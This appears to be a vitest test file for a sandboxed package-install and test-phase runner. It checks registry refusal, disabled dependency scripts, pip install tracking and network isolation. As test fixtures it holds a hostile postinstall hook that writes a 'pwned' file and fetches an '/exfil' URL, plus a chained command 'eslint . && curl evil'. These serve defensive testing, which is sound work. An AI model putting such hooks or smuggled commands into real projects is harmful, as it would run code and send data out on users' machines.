import { randomUUID } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createBwrapSandbox } from "../../../src/workspace/sandbox/bwrap-sandbox.ts";
import { runInstallPhase, type InstallPhaseDeps } from "../../../src/workspace/install/run-install-phase.ts";
import { runPhase } from "../../../src/workspace/install/run-phase.ts";
import type { Sandbox } from "../../../src/workspace/sandbox/sandbox.ts";
import { detectSandboxSupport } from "../../../src/workspace/sandbox/sandbox-support.ts";
import { makeScratchDir } from "../scratch-dir.ts";

describe("install and test phases", () => {
  let server: Server;
  let port: number;
  const requests: string[] = [];
  const support = detectSandboxSupport(randomUUID());
  let scratch: ReturnType<typeof makeScratchDir>;
  let proxyDir: ReturnType<typeof makeScratchDir>;
  let sandbox: Sandbox;
  let install: InstallPhaseDeps;
  beforeAll(async () => {
    server = createServer((req, res) => {
      requests.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ""}`);
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
  beforeEach(() => {
    requests.length = 0;
    scratch = makeScratchDir("phase");
    proxyDir = makeScratchDir("phase-proxy");
    chmodSync(proxyDir.dir, 0o755);
    sandbox = createBwrapSandbox({ root: scratch.dir, support, newId: randomUUID, now: Date.now });
    install = {
      sandbox: createBwrapSandbox({
        root: scratch.dir,
        support,
        newId: randomUUID,
        now: Date.now,
        readOnlyDirs: [proxyDir.dir],
      }),
      proxyDir: proxyDir.dir,
      // No registry at all: these projects install from the file system only.
      registries: async () => ({ allowedUrls: [] }),
    };
  });
  afterEach(() => {
    scratch.remove();
    proxyDir.remove();
  });
  const write = (file: string, text: string): void => {
    mkdirSync(join(scratch.dir, file, ".."), { recursive: true });
    writeFileSync(join(scratch.dir, file), text);
  };

  it("A28 refuses an install whose .npmrc points at an untrusted registry, sending it nothing", async () => {
    write(
      "package.json",
      JSON.stringify({ name: "x", version: "1.0.0", dependencies: { leftpad: "1.0.0" } }),
    );
    write(".npmrc", `registry=http://127.0.0.1:${port}/\n//127.0.0.1:${port}/:_authToken=\${NPM_TOKEN}\n`);
    const outcome = await runInstallPhase(install, { allowScripts: false });
    expect(outcome).toMatchObject({ status: "refused", code: "untrusted_registry" });
    expect(outcome.reason).toContain("127.0.0.1");
    expect(requests).toEqual([]);
  });

  it("A26 installs with dependency scripts disabled: a postinstall that phones home never runs", async () => {
    const phoneHome = `require("fs").writeFileSync("${join(scratch.dir, "pwned")}", "x"); fetch("http://127.0.0.1:${port}/exfil")`;
    write(
      "package.json",
      JSON.stringify({ name: "app", version: "1.0.0", dependencies: { dep: "file:dep" } }),
    );
    write(
      "dep/package.json",
      JSON.stringify({ name: "dep", version: "1.0.0", scripts: { postinstall: `node -e '${phoneHome}'` } }),
    );
    const outcome = await runInstallPhase(install, { allowScripts: false, timeoutMs: 60_000 });
    expect(outcome).toMatchObject({ status: "installed", manager: "npm" });
    expect(existsSync(join(scratch.dir, "node_modules", "dep", "package.json"))).toBe(true);
    expect(existsSync(join(scratch.dir, "pwned"))).toBe(false);
    expect(requests).toEqual([]);
    // Control: with scripts allowed the same postinstall does run, so the check above means something.
    rmSync(join(scratch.dir, "node_modules"), { recursive: true });
    // Its phone-home still fails: the install has no network but the proxy, which allows no such host.
    const allowed = await runInstallPhase(install, { allowScripts: true, timeoutMs: 60_000 });
    expect(allowed).toMatchObject({ status: "failed", code: "install_failed" });
    expect(existsSync(join(scratch.dir, "pwned"))).toBe(true);
    expect(requests).toEqual([]);
  });

  it("a pip install that failed after creating .venv is not taken for installed; a completed one is until requirements.txt changes", async () => {
    // `python3 -m venv .venv` succeeds before pip fails: a .venv newer than requirements.txt is no proof.
    write("requirements.txt", "xihe-no-such-package==1.0\n");
    const failed = await runInstallPhase(install, { allowScripts: false, timeoutMs: 120_000 });
    expect(failed).toMatchObject({ status: "failed", manager: "pip" });
    expect(existsSync(join(scratch.dir, ".venv", "bin", "python"))).toBe(true);
    const again = await runInstallPhase(install, { allowScripts: false, timeoutMs: 120_000 });
    expect(again.status).toBe("failed");

    write("requirements.txt", "# nothing to install yet\n");
    const completed = await runInstallPhase(install, { allowScripts: false, timeoutMs: 120_000 });
    expect(completed).toMatchObject({ status: "installed", manager: "pip" });
    const next = await runInstallPhase(install, { allowScripts: false, timeoutMs: 120_000 });
    expect(next).toMatchObject({ status: "skipped" });
    expect(next.reason).toContain("already installed");

    write("requirements.txt", "# nothing to install yet\nxihe-no-such-package==1.0\n");
    const changed = await runInstallPhase(install, { allowScripts: false, timeoutMs: 120_000 });
    expect(changed.status).toBe("failed");
  }, 240_000);

  it("runs test steps without network and stops at the first failure", async () => {
    const outcome = await runPhase(sandbox, "test", [
      `node -e "fetch('http://127.0.0.1:${port}/').then(() => process.exit(0), () => process.exit(4))"`,
      "touch never-reached",
    ]);
    expect(outcome.ok).toBe(false);
    expect(outcome.steps).toHaveLength(1);
    expect(outcome.steps[0]?.result.exitCode).toBe(4);
    expect(existsSync(join(scratch.dir, "never-reached"))).toBe(false);
    expect(requests).toEqual([]);
  });

  it("refuses a configured command line with shell syntax", async () => {
    await expect(runPhase(sandbox, "lint", ["eslint . && curl evil"])).rejects.toMatchObject({
      code: "command_invalid",
    });
  });
});
